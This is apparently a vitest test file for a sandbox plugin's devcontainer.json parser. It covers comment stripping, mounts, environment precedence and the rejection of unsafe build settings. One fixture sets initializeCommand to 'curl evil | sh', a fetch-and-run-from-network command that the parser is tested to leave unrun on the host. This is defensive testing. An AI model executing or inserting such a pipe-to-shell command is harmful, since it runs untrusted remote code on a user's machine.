/** devcontainer.json parsing: JSON with comments and trailing commas, and the subset's forms. */
import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { readDevcontainer, stripJsonc } from '../../../plugins/sandbox/devcontainer.js'

/** devcontainer.json's variable syntax (not a template here). */
const WS = '$' + '{localWorkspaceFolder}'

describe('devcontainer.json', () => {
  it('reads JSON with comments and trailing commas, leaving strings that look like them alone', () => {
    const text = '{\n  // a comment\n  "a": "http://x/*y*/, }", /* block\n */ "b": [1, 2,],\n}\n'
    expect(JSON.parse(stripJsonc(text))).toEqual({ a: 'http://x/*y*/, }', b: [1, 2] })
    expect(JSON.parse(stripJsonc('{"q": "say \\"hi\\" // not a comment",}'))).toEqual({
      q: 'say "hi" // not a comment',
    })
  })

  it('takes mounts in string and object form, commands in each form, remoteEnv over containerEnv', () => {
    const dir = mkdtempSync(join(tmpdir(), 'tau-dc-'))
    const file = join(dir, 'devcontainer.json')
    writeFileSync(
      file,
      JSON.stringify({
        mounts: [
          `source=${WS}/cache,target=/cache,type=bind,readonly`,
          { source: '/opt/tools', target: '/tools', type: 'bind' },
        ],
        containerEnv: { A: 'c', B: 'c' },
        remoteEnv: { B: 'r', GONE: null },
        containerUser: 'node',
        postCreateCommand: { install: 'npm ci', argv: ['echo', 'a b'] },
        initializeCommand: 'curl evil | sh',
      }),
    )
    const dc = readDevcontainer(file, { workspace: '/work/p', projectDir: dir })
    expect(dc.mounts).toEqual([
      { source: '/work/p/cache', target: '/cache', readonly: true },
      { source: '/opt/tools', target: '/tools', readonly: false },
    ])
    expect(dc.containerEnv).toEqual({ A: 'c', B: 'r' })
    expect(dc.user).toBe('node')
    expect(dc.postCreateCommand).toEqual(['npm ci', ['echo', 'a b']])
    expect(dc.notes).toEqual(['devcontainer.json: initializeCommand: not run: it would run on the host'])
  })

  describe('build', () => {
    /** A workspace with .devcontainer/devcontainer.json holding `json`, and a Dockerfile beside it. */
    const workspace = (json: unknown) => {
      const dir = realpathSync(mkdtempSync(join(tmpdir(), 'tau-dc-build-')))
      mkdirSync(join(dir, '.devcontainer'))
      writeFileSync(join(dir, '.devcontainer', 'Dockerfile'), 'FROM debian:12\n')
      const file = join(dir, '.devcontainer', 'devcontainer.json')
      writeFileSync(file, JSON.stringify(json))
      return { dir, file, read: () => readDevcontainer(file, { workspace: dir, projectDir: dir }) }
    }

    it('takes dockerfile and context relative to the file, args with workspace variables, a target', () => {
      const w = workspace({
        build: {
          dockerfile: 'Dockerfile',
          context: '..',
          args: { BASE: '$' + '{localWorkspaceFolderBasename}' },
          target: 'dev',
        },
      })
      expect(w.read().build).toEqual({
        dockerfile: join(w.dir, '.devcontainer', 'Dockerfile'),
        context: w.dir,
        args: { BASE: w.dir.split('/').pop() },
        target: 'dev',
        source: '.devcontainer/devcontainer.json',
      })
    })

    it("takes the older dockerFile, its context defaulting to the file's directory", () => {
      const w = workspace({ dockerFile: 'Dockerfile' })
      expect(w.read().build).toMatchObject({
        dockerfile: join(w.dir, '.devcontainer', 'Dockerfile'),
        context: join(w.dir, '.devcontainer'),
        args: {},
      })
    })

    it.each([
      [
        'image and build both',
        { image: 'x', build: { dockerfile: 'Dockerfile' } },
        'build: set "image" or "build", not both',
      ],
      [
        'engine options',
        { build: { dockerfile: 'Dockerfile', options: ['--network=host'] } },
        'build.options: not supported',
      ],
      ['a missing Dockerfile', { build: { dockerfile: 'Nope' } }, "build.dockerfile: 'Nope' does not exist"],
      [
        'a context outside the workspace',
        { build: { dockerfile: 'Dockerfile', context: '../..' } },
        "build.context: '../..' is outside the workspace",
      ],
      [
        'a host variable in args',
        { build: { dockerfile: 'Dockerfile', args: { T: '$' + '{localEnv:TOKEN}' } } },
        'build.args.T: $' + '{localEnv:TOKEN}',
      ],
    ])('refuses %s, naming the field', (_name, json, message) => {
      const w = workspace(json)
      expect(() => w.read()).toThrow(
        expect.objectContaining({
          code: 'TAU_SANDBOX_CONTAINER',
          message: expect.stringContaining(`.devcontainer/devcontainer.json: ${message}`),
        }),
      )
    })
  })
})
